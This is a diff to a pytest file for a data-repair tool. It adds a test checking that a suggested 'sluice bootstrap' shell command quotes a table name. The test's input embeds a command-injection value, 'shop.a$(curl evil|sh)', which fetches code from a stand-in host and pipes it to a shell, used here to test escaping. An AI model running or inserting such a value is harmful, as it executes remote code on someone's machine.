@@ -1,6 +1,7 @@
 """Rows that a person or a check names become keys and ranges, and what names none is refused."""
 
 import json
+from dataclasses import replace
 
 import pytest
 
@@ -98,6 +99,14 @@ def test_what_checks_name_is_read_in_the_shards_they_name() -> None:
 def test_checks_that_name_no_row_are_no_ground_for_a_repair() -> None:
     with pytest.raises(ConfigError, match=r"no check names rows of shop\.t"):
         found_wrong(IDS, [fail("volatility", "x")], 9)
+
+
+def test_the_command_for_a_new_base_names_the_table_alone() -> None:
+    """A person pastes it into a shell."""
+    with pytest.raises(ConfigError) as refused:
+        found_wrong(replace(IDS, name="shop.a$(curl evil|sh)"), [], 9)
+
+    assert str(refused.value).endswith("sluice bootstrap 'shop.a$(curl evil|sh)'")
 
 
 def refusal(columns: list[Column], *values: str) -> str:
